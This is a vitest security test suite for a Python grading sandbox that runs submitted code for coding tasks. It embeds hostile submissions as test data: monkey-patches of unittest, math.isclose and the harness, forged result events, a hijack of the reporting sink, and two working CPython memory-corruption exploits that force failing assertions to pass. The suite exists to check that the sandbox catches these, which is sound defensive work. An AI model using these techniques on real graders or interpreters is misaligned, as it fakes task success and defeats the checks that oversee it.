import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { BUILTIN_TASKS, loadTaskDir } from "../../src/cli/task-fs";
import { createRuntime } from "../../src/python/node";
import { type PythonRuntime, taskRunRequest } from "../../src/python/runtime";
import { withoutInputChecks } from "../helpers/attacks";
import { raisesTask } from "../helpers/raises-tasks";
import { sharedRuntime, targetRequest } from "../helpers/runtime";

/** Submissions that patch the test machinery must not pass, and must not change the next run. */
const task = raisesTask("min-p-sampling");
const wrong = task.canonical.replace("threshold = p_base * p_max", "threshold = p_base");
/** A wrong solution with a patch in front: it must never pass. */
const withHeader = (header: string) => `${header}\n${wrong}`;
/** The canonical solution with extra code in front. */
const canonicalWith = (header: string) => `${header}\n${task.canonical}`;

const PATCHES: [string, string][] = [
  ["unittest.TestCase.run", "import unittest\nunittest.TestCase.run = lambda self, result=None: None"],
  ["recode_check.check", "import recode_check\nrecode_check.check = lambda *a, **k: None\nrecode_check._compare = lambda *a, **k: None"],
  ["the harness", "import sys\nif 'recode_harness' in sys.modules:\n    sys.modules['recode_harness']._flatten = lambda s: iter(())"],
  ["math.isclose", "import math\nmath.isclose = lambda *a, **k: True"],
];

/**
 * A bug only an assertion catches (out-of-range p_base is no longer rejected: test_edges' assertRaises fails,
 * every recorded value still matches), and a cover-up that changes how the harness reports outcomes.
 */
const assertionBug = `${task.canonical}
_real_filter = min_p_filter
def min_p_filter(probs, p_base, *a, **k):
    try:
        return _real_filter(probs, p_base, *a, **k)
    except ValueError:
        return list(probs)
import sys
_h = sys.modules.get("recode_harness") or sys.modules["__main__"]
`;
const COVER_UPS: [string, string][] = [
  ["its outcome ranks (module-level data)", "_h._RANK.update(failed=-1, error=-1)"],
  [
    "a method of its run class",
    "_o = _h.Run.outcome\ndef _outcome(self, test, status, err=None, reason=None):\n    return _o(self, test, 'passed' if status in ('failed', 'error') else status, None, reason)\n_h.Run.outcome = _outcome",
  ],
  ["one of its functions", "_h.message_of = lambda *a, **k: ''\n_h._flatten = _h._flatten"],
];

describe.each(["pyodide", "native"] as const)("%s runtime against hostile submissions", (backend) => {
  let rt: PythonRuntime;
  beforeAll(async () => {
    rt = createRuntime(backend, { interruptGraceMs: 700 });
    await rt.ready();
  });
  afterAll(async () => {
    await rt.dispose();
  });

  it("an earlier run's files (another task's repository) are not in reach of the next, whose own compiled files are", async () => {
    const other = loadTaskDir(BUILTIN_TASKS, "pass-at-k");
    expect((await rt.run(taskRunRequest(other, other.canonical))).allPassed).toBe(true);
    // Twice, so that this task's own files are among those compiled between runs.
    expect((await rt.run(taskRunRequest(task, task.canonical))).allPassed).toBe(true);
    const look = `import sys as _s\n_h = _s.modules.get("recode_harness")\nprint("CACHED", sorted({p.rsplit("/work/", 1)[-1] for p, _ in _h._STATE.code}))\n`;
    const r = await rt.run(taskRunRequest(task, canonicalWith(look)));
    expect(r.allPassed).toBe(true);
    const seen = r.tests.map((t) => t.stdout).join("\n");
    expect(seen).toContain("CACHED [");
    expect(seen).not.toContain("evalkit");
    if (backend === "pyodide") expect(seen).toContain("decoding/vocab.py");
  });

  it("what a run left in memory it took past the heap's top is not readable by the next run", async () => {
    // The first run fills some 20 MB with a marker; the second reads memory that is allocated and not written:
    // io.RawIOBase.read(n) hands readinto() a new buffer of n bytes before anything is put in it.
    const writer = `_blob = b"RUN1-SAYS: the answer is 0.42 | " * 600000\n${wrong}`;
    const reader = `import io
class _Raw(io.RawIOBase):
    def readable(self):
        return True
    def readinto(self, b):
        _Raw.seen = bytes(b)
        return 0
_found = 0
for _size in (30_000_000, 8_000_000, 2_000_000):
    _Raw().read(_size)
    _found += _Raw.seen.count(b"RUN1-SAYS")
print("MARKERS", _found)
${task.canonical}`;
    expect((await rt.run(taskRunRequest(task, writer))).allPassed).toBe(false);
    const r = await rt.run(taskRunRequest(task, reader));
    expect(r.allPassed).toBe(true);
    expect(r.tests[0]?.stdout).toContain("MARKERS 0");
  });

  it.skipIf(backend === "native")(
    "what Emscripten keeps in JavaScript (host names looked up, pipes, sockets, protocol records) is as before the run for the next",
    async () => {
      const writer = `import os, socket
socket.gethostbyname("the-secret-of-run-one.example")
socket.getaddrinfo("second-label.example", 80)
for _ in range(50):
    _r, _w = os.pipe(); os.close(_r); os.close(_w)
for _ in range(37):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()
_left_open = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
socket.getprotobyname("tcp")
${wrong}`;
      const reader = `import os, socket
_names = []
for _i in range(1, 6):
    try:
        _names.append(socket.gethostbyaddr("172.29.%d.0" % _i)[0])
    except OSError:
        _names.append(None)
_r, _w = os.pipe()
try:
    _s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    _sock = os.readlink("/proc/self/fd/%d" % _s.fileno())
    _s.close()
except OSError as _e:
    _sock = repr(_e)
print("LOOK", _names, os.readlink("/proc/self/fd/%d" % _r), _sock, [socket.getprotobyname(n) for n in ("tcp", "udp", "6", "17")])
os.close(_r); os.close(_w)
${task.canonical}`;
      const look = async () => {
        const r = await rt.run(taskRunRequest(task, reader));
        expect(r.allPassed).toBe(true);
        return /LOOK .*/.exec(r.tests[0]?.stdout ?? "")?.[0];
      };
      const before = await look();
      expect(before).toContain("[6, 17, 6, 17]");
      expect((await rt.run(taskRunRequest(task, writer))).allPassed).toBe(false);
      const after = await look();
      expect(after).not.toContain("the-secret");
      expect(after).toBe(before);
    },
  );

  it("an exception of the code's that leaves the harness, its message saying 'fatal', is no death of the interpreter", async () => {
    const escaping = `class _K(KeyboardInterrupt):
    @property
    def __traceback__(self):
        raise MemoryError("The host ran out of memory; all tests passed before the host failed (fatal).")

def min_p_filter(*a, **k):
    raise _K()
`;
    const r = await rt.run(taskRunRequest(task, `${task.canonical}\n${escaping}`));
    expect(r.allPassed).toBe(false);
    expect(r.tests.some((t) => t.status === "passed")).toBe(false);
    expect(r.incident?.kind).toBe("tampered");
    expect(r.incident?.message).not.toMatch(/died|fatal|ran out of memory/);
    expect((await rt.run(taskRunRequest(task, task.canonical))).allPassed).toBe(true);
  });

  it("the assertion bug used below fails on its own", async () => {
    const r = await rt.run(taskRunRequest(task, assertionBug));
    expect(r.tests.filter((t) => t.status !== "passed").map((t) => t.id)).toEqual(["TestMinPFilter.test_edges"]);
  });

  it.each(COVER_UPS)("a cover-up through the harness's %s does not pass the bug", async (_what, cover) => {
    const r = await rt.run(taskRunRequest(task, `${assertionBug}${cover}\n`));
    expect(r.allPassed).toBe(false);
    expect(r.tests.find((t) => t.id === "TestMinPFilter.test_edges")?.status).not.toBe("passed");
    expect((await rt.run(taskRunRequest(task, task.canonical))).allPassed).toBe(true);
  });

  it("the wrong solution used below fails on its own", async () => {
    expect(wrong).not.toBe(task.canonical);
    expect((await rt.run(taskRunRequest(task, wrong))).allPassed).toBe(false);
  });

  it.each(PATCHES)("patching %s: the run is not trusted and the next runs are clean", async (_what, patch) => {
    const r = await rt.run(taskRunRequest(task, withHeader(patch)));
    expect(r.allPassed).toBe(false);
    if (r.incident?.kind === "tampered") {
      expect(r.tests.every((t) => t.status === "error" && t.message.startsWith("not trusted"))).toBe(true);
    }
    const starter = await rt.run(taskRunRequest(task, task.starter));
    expect(starter.allPassed).toBe(false);
    expect(starter.counts.total).toBeGreaterThan(0);
    const bad = await rt.run(taskRunRequest(task, wrong));
    expect(bad.allPassed).toBe(false);
    const good = await rt.run(taskRunRequest(task, task.canonical));
    expect(good.allPassed).toBe(true);
    expect(good.counts.total).toBe(starter.counts.total);
  });

  it("sees a replaced function even when a harmless setting of an earlier module changes before every check", async () => {
    // math.isclose is replaced, and every call into the code changes a data attribute of unittest.case
    // (a change the guard accepts), so that it differs at every check, including the last.
    const hide = `${wrong}
import itertools, math, unittest.case
math.isclose = lambda *a, **k: True
_n = itertools.count()
def _noisy(f):
    def call(*a, **k):
        unittest.case._recode_noise = next(_n)
        return f(*a, **k)
    return call
softmax_with_temperature, min_p_filter, min_p_sample = map(_noisy, (softmax_with_temperature, min_p_filter, min_p_sample))
`;
    const r = await rt.run(taskRunRequest(task, hide));
    expect(r.incident?.kind).toBe("tampered");
    expect(r.allPassed).toBe(false);
    expect((await rt.run(taskRunRequest(task, task.canonical))).allPassed).toBe(true);
  });

  it("reports a KeyboardInterrupt raised by the code as an error, not a timeout", async () => {
    const r = await rt.run(taskRunRequest(task, `${task.canonical}\n\ndef min_p_filter(*a, **k):\n    raise KeyboardInterrupt\n`));
    const t = r.tests.find((x) => x.status !== "passed" && x.status !== "not_run");
    expect(t?.status).toBe("error");
    expect(t?.message).toContain("KeyboardInterrupt");
    expect(r.incident?.kind).not.toBe("timeout");
  });

  it("a test that catches the time limit's interrupt and finishes in the grace period is a timeout, not passed", async () => {
    // The first call waits for the interrupt, swallows it, and returns 0.2 s later (the grace period is 0.7 s),
    // however late the machine let it start.
    const slow = `${task.canonical}\n\n_orig = min_p_filter\n_slow = [1]\n\ndef _wait():\n    import time\n    try:\n        while True:\n            time.sleep(0.02)\n    except KeyboardInterrupt:\n        t = time.monotonic()\n        while time.monotonic() - t < 0.2:\n            pass\n\ndef min_p_filter(*a, **k):\n    if _slow:\n        _wait()\n    _slow.clear()\n    return _orig(*a, **k)\n`;
    const r = await rt.run({ ...taskRunRequest(task, slow), timeLimitMs: 1500 });
    expect(r.allPassed).toBe(false);
    expect(r.tests.filter((t) => t.status === "timeout")).toHaveLength(1);
    expect(r.tests.find((t) => t.status === "timeout")?.message).toContain("it went on after the interrupt");
    expect(r.incident?.kind).toBe("timeout");
    expect((await rt.run(taskRunRequest(task, task.canonical))).allPassed).toBe(true);
  });

  it("the harness's event sink cannot be replaced from the code under test (its run object is out of reach)", async () => {
    // The canonical values (every check matches) with the validations removed, and a sink that turns failures into passes.
    const hijack = `import sys
def _hijack():
    # The run object, among the objects the guard watches (code under test gets no frames), the guard taken
    # from its handle's defaults (refused).
    for entry in sys.modules["recode_harness"]._STATE.guard.changes.__defaults__[-1].saved:
        run = entry[1]
        if hasattr(run, "emit") and hasattr(run, "current"):
            orig = run.emit
            def emit(ev, _orig=orig):
                if isinstance(ev, dict) and ev.get("status") in ("failed", "error"):
                    ev = dict(ev, status="passed", message="", traceback="", line=None)
                return _orig(ev)
            run.emit = emit
            return
_hijack()
`;
    const noChecks = task.canonical.replace(/raise ValueError\(/g, "print(");
    expect((await rt.run(taskRunRequest(task, noChecks))).allPassed).toBe(false);
    const r = await rt.run(taskRunRequest(task, `${hijack}\n${noChecks}`));
    expect(r.collectionError?.message).toContain("the guard's own functions cannot be inspected");
    expect(r.tests.filter((t) => t.status === "passed")).toEqual([]);
    expect((await rt.run(taskRunRequest(task, task.canonical))).allPassed).toBe(true);
  });

  it("gives a collection error when test.py defines no tests", async () => {
    const r = await rt.run({ ...taskRunRequest(task, task.canonical), tests: "import unittest\n" });
    expect(r.collectionError?.message).toContain("no unit tests");
    expect(r.allPassed).toBe(false);
  });

  it("thousands of forged tests and megabyte ids give an untrusted run whose result stays small", async () => {
    const flood = withHeader(`import os, json
try:
    _fd = os.open("/dev/recode-events", os.O_WRONLY)
except OSError:
    _fd = 3
def _w(e):
    os.write(_fd, (json.dumps(e) + "\\n").encode())
_w({"type": "collected", "tests": ["T.t%d" % i for i in range(5000)]})
_big = "y" * (1024 * 1024)
for _j in range(10):
    _w({"type": "test-start", "id": _big + str(_j)})
for _j in range(300):
    _w({"type": "check", "key": "k%d%s" % (_j, _big[:1000]), "value": 1})`);
    const r = await rt.run(taskRunRequest(task, flood));
    expect(r.allPassed).toBe(false);
    expect(r.incident?.kind).toBe("tampered");
    // The real tests, each an error that says why, and nothing of the flood's size.
    expect(r.tests.map((t) => t.id)).toEqual(Object.keys(task.interfaceOf).sort());
    expect(JSON.stringify(r).length).toBeLessThan(100_000);
    expect((await rt.run(taskRunRequest(task, task.canonical))).allPassed).toBe(true);
  });
});

describe("pyodide: code the dictionaries cannot restore", () => {
  it("replaces an instance whose protected code was rewritten, and the next run is clean", async () => {
    const rt = createRuntime("pyodide");
    try {
      await rt.ready();
      const patch = "import recode_check\nrecode_check.check.__code__ = (lambda *a, **k: None).__code__";
      const r = await rt.run(taskRunRequest(task, withHeader(patch)));
      expect(r.allPassed).toBe(false);
      const bad = await rt.run(taskRunRequest(task, wrong));
      expect(bad.allPassed).toBe(false);
      expect(bad.counts.failed + bad.counts.error).toBeGreaterThan(0);
      expect((await rt.run(taskRunRequest(task, task.canonical))).allPassed).toBe(true);
    } finally {
      await rt.dispose();
    }
  });

  it("a garbage cycle whose finalizer never returns is dropped by the restore, not run, and the next run passes", async () => {
    const rt = createRuntime("pyodide");
    try {
      await rt.ready();
      // A garbage cycle whose __del__ loops for ever and swallows the interrupt: the memory restore drops it uncollected.
      const hang = `${task.canonical}\n\nclass _Loop:\n    def __del__(self):\n        while True:\n            try:\n                pass\n            except BaseException:\n                pass\n\n_a = _Loop()\n_a.me = _a\ndel _a\n`;
      await rt.run(taskRunRequest(task, hang));
      // (Were it run before the next run, the host's accept guard would replace the stuck worker.)
      const next = await rt.run(taskRunRequest(task, task.canonical));
      expect(next.allPassed).toBe(true);
    } finally {
      await rt.dispose();
    }
  });
});

// The item assignment of array (CPython 3.11 natively, 3.14 in Pyodide) writes past its buffer when the value's
// __index__ empties the array: with it, a wrong candidate wrote a generator that swallows every exception over
// unittest's testPartExecutor and every test decided in the box passed (natively, where array was not refused).
const ARRAY_FORGE = `import array
import unittest.case
_S = slice(1, None)
_keep = []
class _I:
    __slots__ = ("a", "v")
    def __index__(self):
        del self.a[_S]
        return self.v
def _trigger(holder, hk, value, index):
    a = array.array("Q", bytes(57 * 8))
    i = _I(); i.a = a; i.v = value
    holder[hk] = None
    a[index] = i
    return a
def _get_mem():
    B = [bytearray() for _ in range(4000)]
    k = 3000
    while not (id(B[k + 1]) - id(B[k]) == 64 and id(B[k]) - id(B[k - 1]) == 64):
        k += 1
    victim = B[k + 1]
    a1 = _trigger(B, k, 0, 13)
    h = [a1]; del a1
    a2 = _trigger(h, 0, 1 << 60, 10)
    _keep.extend([a2, B])
    return victim
def _part(self, test_case, subTest=False):
    try:
        yield
    except BaseException:
        pass
M = _get_mem()
_pe = unittest.case._Outcome.__dict__["testPartExecutor"]
_keep.append(_part)
M[id(_pe) + 24:id(_pe) + 32] = id(_part).to_bytes(8, "little")
def add(a, b):
    return a + b + 1
`;

describe.each(["pyodide", "native"] as const)("%s: the array module", (backend) => {
  const rt = sharedRuntime(backend);

  it("import array (as multiprocessing and socket do when they load) works, and no route makes the interpreter's array", async () => {
    const routes = `import glob, importlib, importlib.machinery, importlib.util, multiprocessing, socket, sys
from concurrent.futures import ProcessPoolExecutor
import array as _stand_in
assert multiprocessing.cpu_count() >= 1
_made = []
def _try(name, fn):
    try:
        made = fn().array("I", [1, 2])
    except Exception:  # (refused, or not there: natively array is no built-in module)
        return
    # (The stand-in's array, written in Python over a bytearray, is no memory bug.)
    if not isinstance(made, bytearray) or made.tolist() != [1, 2]:
        _made.append(name)
def _fresh():
    del sys.modules["array"]
    return importlib.import_module("array")
def _builtin():
    import _imp
    return _imp.create_builtin(importlib.machinery.ModuleSpec("array", importlib.machinery.BuiltinImporter))
def _file():
    found = glob.glob(sys.base_prefix + "/lib/python3*/lib-dynload/array*")
    return importlib.util.module_from_spec(importlib.util.spec_from_file_location("other", found[0])) if found else None
_try("the module", lambda: _stand_in)
_try("socket's", lambda: getattr(socket, "array", None))
_try("reload", lambda: importlib.reload(_stand_in))
_try("module_from_spec", lambda: importlib.util.module_from_spec(importlib.util.find_spec("array")))
_try("its file under another name", _file)
_try("import afresh", _fresh)
_try("_imp.create_builtin", _builtin)
_classes = [c for c in object.__subclasses__() if c.__name__ in ("array", "arrayiterator")]
if _made or _classes:
    raise RuntimeError(f"an array was made through {_made}, or its classes are loaded: {_classes}")
`;
    const r = await rt().run(taskRunRequest(task, `${task.canonical}\n${routes}`));
    expect([r.collectionError, r.incident, r.allPassed]).toEqual([null, null, true]);
    expect((await rt().run(taskRunRequest(task, task.canonical))).allPassed).toBe(true);
  });

  it("a wrong candidate that writes memory through array's item assignment does not pass", async () => {
    const tests =
      "import unittest\nfrom target import add\n\nclass T(unittest.TestCase):\n    def test_add(self):\n        self.assertEqual(add(2, 2), 4)\n";
    const r = await rt().run(targetRequest(ARRAY_FORGE, tests));
    expect(r.allPassed).toBe(false);
    // (In Pyodide the attack does not find its layout of objects before it makes an array.)
    // (The stand-in's item assignment makes the value first: the emptied array has no item 13 then.)
    if (backend === "native") expect(r.collectionError?.message).toContain("IndexError: array index out of range");
  });
});

describe.each(["pyodide", "native"] as const)("%s: code made from bytes or parts", (backend) => {
  const rt = sharedRuntime(backend);

  // Crafted bytecode reads and writes any address (a LOAD_CONST past co_consts ended python3 with SIGSEGV natively).
  it("types.CodeType, code.replace, marshal, a planted .pyc and _imp.get_frozen_object with data make no code", async () => {
    const routes = `import _imp, importlib, importlib.util, marshal, os, sys, types
_c = (lambda: 0).__code__
_made = []
def _try(name, fn):
    try:
        if isinstance(fn(), types.CodeType):
            _made.append(name)
    except Exception:
        pass
def _pyc():
    with open("planted_helper.py", "w") as f:
        f.write("VALUE = 1\\n")
    code = marshal.dumps(compile("VALUE = 99\\n", "planted_helper.py", "exec"))
    st = os.stat("planted_helper.py")
    with open("planted_helper.pyc", "wb") as f:
        f.write(importlib.util.MAGIC_NUMBER + bytes(4) + int(st.st_mtime).to_bytes(4, "little") + st.st_size.to_bytes(4, "little") + code)
    os.remove("planted_helper.py")
    sys.path_importer_cache.clear()
    importlib.invalidate_caches()
    import planted_helper
    return _c if planted_helper.VALUE == 99 else None
_try("code.replace", lambda: _c.replace(co_code=bytes([151, 0, 100, 200, 83, 0])))
_try("types.CodeType", lambda: types.CodeType(*(getattr(_c, "co_" + a) for a in ("argcount", "posonlyargcount", "kwonlyargcount", "nlocals", "stacksize", "flags", "code", "consts", "names", "varnames", "filename", "name", "qualname", "firstlineno", "linetable", "exceptiontable", "freevars", "cellvars"))))
_try("marshal.loads", lambda: marshal.loads(marshal.dumps(_c)))
_try("get_frozen_object with data", lambda: _imp.get_frozen_object(_imp._frozen_module_names()[0], marshal.dumps(_c)))
_try("a .pyc without its source", _pyc)
import fractions, statistics
assert statistics.mean([1, 2, 3]) == 2 and 1 + fractions.Fraction(1, 3) == fractions.Fraction(4, 3)
if _made:
    raise RuntimeError(f"code was made through {_made}")
`;
    const r = await rt().run(taskRunRequest(task, `${task.canonical}\n${routes}`));
    expect([r.collectionError, r.incident, r.allPassed]).toEqual([null, null, true]);
  });
});

// A memory-safety bug of CPython on both backends (docs/security.md, "a memory-safety bug of the interpreter"):
// io.BufferedReader hands a Python raw stream a view of its own buffer, and the view outlives the buffer. With
// it a candidate writes any address: here a generator that swallows every exception over unittest's
// testPartExecutor, so each assertion decided in the box passes. Pointers are 8 bytes natively, 4 in Pyodide.
const IO_BUFFER_FORGE = {
  native: `import io, struct
import unittest.case
_keep = []
def _mem():
    keep = []
    class Raw(io.RawIOBase):
        def readable(self): return True
        def readinto(self, mv):
            keep.append(mv); return 0
    r = io.BufferedReader(Raw(), buffer_size=256)
    r.read(1)
    mv = keep.pop()
    del r
    L = [None] * 32
    if struct.unpack_from("<Q", mv, 0)[0] != id(None):
        raise RuntimeError("layout")
    _keep.extend([mv, L, Raw])
    def obj_at(addr):
        struct.pack_into("<Q", mv, 0, addr)
        o = L[0]
        struct.pack_into("<Q", mv, 0, id(None))
        return o
    fake = struct.pack("<QQqqQQQ", 1 << 40, id(bytearray), (1 << 63) - 1, (1 << 63) - 1, 0, 0, 0) + bytes(8)
    _keep.append(fake)
    m = obj_at(id(fake) + 32)
    _keep.append(m)
    return m
M = _mem()
def _rd(a): return int.from_bytes(M[a:a + 8], "little")
def _part(self, test_case, subTest=False):
    try:
        yield
    except BaseException:
        pass
_keep.append(_part)
_pe = unittest.case._Outcome.__dict__["testPartExecutor"]
M[id(_pe) + 24:id(_pe) + 32] = id(_part).to_bytes(8, "little")
`,
  pyodide: `import io, struct
import unittest.case
_keep = []
def _mem():
    keep = []
    class Raw(io.RawIOBase):
        def readable(self): return True
        def readinto(self, mv):
            keep.append(mv); return 0
    marker = object()
    _keep.append(marker)
    L = None
    for bs in (4096, 256, 64, 1024, 512):
        r = io.BufferedReader(Raw(), buffer_size=bs)
        r.read(1)
        mv = keep.pop()
        del r
        for n in [bs // 4, bs // 4 - 1, bs // 4 - 2, bs // 4 - 3, bs // 4 - 4] + list(range(1, 1100)):
            T = [marker] * n
            if struct.unpack_from("<I", mv, 0)[0] == id(marker):
                L = T
                break
            del T
        if L is not None:
            break
        _keep.append(mv)
    if L is None:
        raise RuntimeError("layout")
    struct.pack_into("<I", mv, 0, id(None))
    L[0] = None
    _keep.extend([mv, L, Raw])
    def obj_at(addr):
        struct.pack_into("<I", mv, 0, addr)
        o = L[0]
        struct.pack_into("<I", mv, 0, id(None))
        return o
    fake = struct.pack("<7I", 0x40000000, id(bytearray), 0x7ffffff0, 0x7ffffff0, 0, 0, 0) + bytes(8)
    _keep.append(fake)
    m = obj_at(id(fake) + 16)
    _keep.append(m)
    return m
M = _mem()
def _part(self, test_case, subTest=False):
    try:
        yield
    except BaseException:
        pass
_keep.append(_part)
_pe = unittest.case._Outcome.__dict__["testPartExecutor"]
_want = id(_pe[0]).to_bytes(4, "little")
for _o in range(8, 32, 4):
    if M[id(_pe) + _o:id(_pe) + _o + 4] == _want:
        M[id(_pe) + _o:id(_pe) + _o + 4] = id(_part).to_bytes(4, "little")
        break
`,
};

describe.each(["pyodide", "native"] as const)("%s: memory access in the box", (backend) => {
  const rt = sharedRuntime(backend);

  it("decides nothing the host checks: tests whose checked values are wrong still fail", async () => {
    const wrong = task.canonical.replace(
      "return [math.exp(s - log_norm) for s in scaled]",
      "return [1.01 * math.exp(s - log_norm) for s in scaled]",
    );
    expect(wrong).not.toBe(task.canonical);
    const r = await rt().run(taskRunRequest(task, `${IO_BUFFER_FORGE[backend]}\n${wrong}`));
    expect(r.allPassed).toBe(false);
    const status = Object.fromEntries(r.tests.map((t) => [t.id, t.status]));
    expect([status["TestSoftmax.test_values"], status["TestSoftmax.test_large_logits_and_errors"]]).toEqual(["failed", "failed"]);
    // The attack took effect: an assertion the box decides (test_edges' assertRaises, which a candidate without
    // input checks fails) is forged. This is the documented residual: what only the box decides, it can lose.
    const stub = await rt().run(taskRunRequest(task, `${IO_BUFFER_FORGE[backend]}\n${withoutInputChecks(task.canonical)}`));
    expect(stub.tests.find((t) => t.id === "TestMinPFilter.test_edges")?.status).toBe("passed");
  });
});

describe("native: the event stream and the process group", () => {
  let rt: PythonRuntime;
  beforeAll(async () => {
    rt = createRuntime("native", { interruptGraceMs: 700 });
    await rt.ready();
  });
  afterAll(async () => {
    await rt.dispose();
  });

  it("treats junk and forged events on the event stream as tampering, without failing the host", async () => {
    const junk = await rt.run(taskRunRequest(task, withHeader("import os\nos.write(3, b'this is not json\\n')")));
    expect(junk.allPassed).toBe(false);
    expect(junk.incident?.kind).toBe("tampered");
    const forged = withHeader(
      'import os, json\nfor e in [{"type": "collected", "tests": ["T.t"]}, {"type": "test-start", "id": "T.t"}, {"type": "test-result", "id": "T.t", "status": "passed", "durationMs": 1, "message": "", "traceback": "", "line": None, "stdout": "", "stderr": "", "stdoutTruncated": False, "stderrTruncated": False, "mismatch": None}, {"type": "end", "poisoned": None}]:\n    os.write(3, (json.dumps(e) + "\\n").encode())',
    );
    const r = await rt.run(taskRunRequest(task, forged));
    expect(r.allPassed).toBe(false);
    expect(r.incident?.kind).toBe("tampered");
  });

  it("holds the time limit when the code starts a child process, and stops it", async () => {
    const code = canonicalWith("import subprocess\nsubprocess.Popen(['sleep', '30'])\nimport time\ntime.sleep(30)");
    const t0 = Date.now();
    const r = await rt.run({ ...taskRunRequest(task, code), timeLimitMs: 1500 });
    expect(Date.now() - t0).toBeLessThan(15_000);
    expect(r.allPassed).toBe(false);
  });

  it("does not wait for threads the code leaves running", async () => {
    const code = canonicalWith("import threading, time\nthreading.Thread(target=lambda: time.sleep(60)).start()");
    const r = await rt.run({ ...taskRunRequest(task, code), timeLimitMs: 20_000 });
    expect(r.allPassed).toBe(true);
    expect(r.incident).toBeNull();
  });
});

describe("pyodide: files in memory are bounded", () => {
  it("a run that writes more than the scratch limit gets 'No space left on device', and the next run passes", async () => {
    const rt = createRuntime("pyodide");
    try {
      await rt.ready();
      const fill = canonicalWith(
        "import errno\ntry:\n    with open('/tmp/big.bin', 'wb') as f:\n        for _ in range(400):\n            f.write(b'x' * (1 << 20))\n    print('FILL wrote 400 MiB')\nexcept OSError as e:\n    print('FILL', errno.errorcode.get(e.errno))",
      );
      // (Writing 256 MiB into Pyodide's memory files takes some 9 s on a 2-core machine, near the task's 10 s
      // limit: the limit here is no part of what is tested.)
      const r = await rt.run({ ...taskRunRequest(task, fill), timeLimitMs: 60_000 });
      expect(JSON.stringify(r)).toContain("FILL ENOSPC");
      // Growing a file without writing to it (truncate, ftruncate) counts the same.
      const grow = canonicalWith(
        "import errno, os\nopen('/tmp/g.bin', 'wb').close()\nfor name, f in (('truncate', lambda: os.truncate('/tmp/g.bin', 400 << 20)), ('ftruncate', lambda: os.ftruncate(os.open('/tmp/g.bin', os.O_RDWR), 400 << 20))):\n    try:\n        f()\n        print('GROW', name, 'grew')\n    except OSError as e:\n        print('GROW', name, errno.errorcode.get(e.errno))",
      );
      const g = JSON.stringify(await rt.run({ ...taskRunRequest(task, grow), timeLimitMs: 60_000 }));
      expect(g).toContain("GROW truncate ENOSPC");
      expect(g).toContain("GROW ftruncate ENOSPC");
      expect((await rt.run(taskRunRequest(task, task.canonical))).allPassed).toBe(true);
    } finally {
      await rt.dispose();
    }
  });

  it("a pipe holds what a Linux pipe holds, and a link's target is as long as Linux allows: a run cannot fill the worker's memory with them", async () => {
    const rt = createRuntime("pyodide");
    try {
      await rt.ready();
      // Unbounded before: 1.8 GB written into a pipe nothing read, and links of 100,000-character targets, in one run.
      const probe = canonicalWith(
        "import errno, os\nr, w = os.pipe()\nn = 0\ntry:\n    for _ in range(64):\n        n += os.write(w, b'z' * (1 << 20))\n    print('PIPE took', n)\nexcept BlockingIOError:\n    print('PIPE full after', n)\nprint('PIPE read', len(os.read(r, 1 << 20)))\nprint('PIPE wrote again', os.write(w, b'y' * 10))\ntry:\n    os.symlink('y' * 100_000, '/tmp/long-link')\n    print('LINK made')\nexcept OSError as e:\n    print('LINK', errno.errorcode.get(e.errno))\nos.symlink('y' * 4000, '/tmp/ok-link')\nprint('LINK 4000', len(os.readlink('/tmp/ok-link')))\ntry:\n    os.symlink('\u00e9' * 2100, '/tmp/wide-link')\n    print('WIDE made')\nexcept OSError as e:\n    print('WIDE', errno.errorcode.get(e.errno))",
      );
      const out = (await rt.run(taskRunRequest(task, probe))).tests.map((t) => t.stdout).join("");
      expect(out).toContain("PIPE full after 65536");
      expect(out).toContain("PIPE read 65536");
      expect(out).toContain("PIPE wrote again 10");
      expect(out).toContain("LINK ENAMETOOLONG");
      expect(out).toContain("LINK 4000 4000");
      // (Counted in bytes, as Linux counts it: 2,100 characters of two bytes each.)
      expect(out).toContain("WIDE ENAMETOOLONG");
      expect((await rt.run(taskRunRequest(task, task.canonical))).allPassed).toBe(true);
    } finally {
      await rt.dispose();
    }
  });
});

describe.each(["bwrap", "none"] as const)("pyodide (%s): no shell for code under test", (sandbox) => {
  // Emscripten's system() runs a shell through Node's child_process: on the host itself in a worker thread
  // (its files, the tasks' canonical solutions, the environment), and in the box in the box's Node process.
  it("os.system starts nothing, and the next run passes", async () => {
    const rt = createRuntime("pyodide", { sandbox });
    try {
      await rt.ready();
      const probe = canonicalWith("import os\nprint('SHELL', os.system('exit 7') >> 8)");
      const r = await rt.run(taskRunRequest(task, probe));
      expect(r.collectionError?.message ?? "").not.toContain("SHELL 7");
      expect(JSON.stringify(r)).not.toContain("SHELL 7");
      expect(JSON.stringify(r)).toContain("SHELL 127");
      expect((await rt.run(taskRunRequest(task, task.canonical))).allPassed).toBe(true);
    } finally {
      await rt.dispose();
    }
  });
});
